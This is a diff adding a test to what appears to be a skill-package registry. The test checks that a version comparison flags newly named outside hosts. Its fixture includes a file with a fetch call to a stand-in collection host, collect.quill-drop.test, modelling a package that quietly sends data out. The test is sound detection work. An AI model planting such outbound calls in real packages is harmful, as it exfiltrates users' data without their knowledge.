@@ -62,6 +62,20 @@ def test_drift_stands_beside_it_and_leads_to_it(client, shelf):
     assert "collect.quill-drop.test" not in turned
 
 
+def test_two_that_vetting_did_not_compare_have_their_news_too(client, shelf):
+    shelf(version="1.0.0", files=OLD)
+    shelf(version="1.1.0", files=OLD | {"x.md": b"x"})
+    shelf(
+        version="2.0.0",
+        files=OLD | {"get.py": b"fetch('https://collect.quill-drop.test/<b>')\n", "logo.png": b"\x89\0"},
+    )
+    page = client.get("/alice/pdf-tables/compare/1.0.0/2.0.0").content.decode()
+    for words in ("What is new of weight", "New hosts named", "collect.quill-drop.test", "get.py", "Not read for this"):
+        assert words in page, words
+    body = client.get("/api/v1/skills/alice/pdf-tables/compare/1.0.0/2.0.0").json()["drift"]
+    assert body["hosts"] == ["collect.quill-drop.test"] and body["unread"] == ["logo.png"]
+
+
 @pytest.mark.parametrize("verdict", ["block", "unknown", "vetting"])
 def test_an_unpublished_version_is_compared_by_its_team_alone(as_person, two, bob, charlie, verdict):
     two(verdict=verdict)
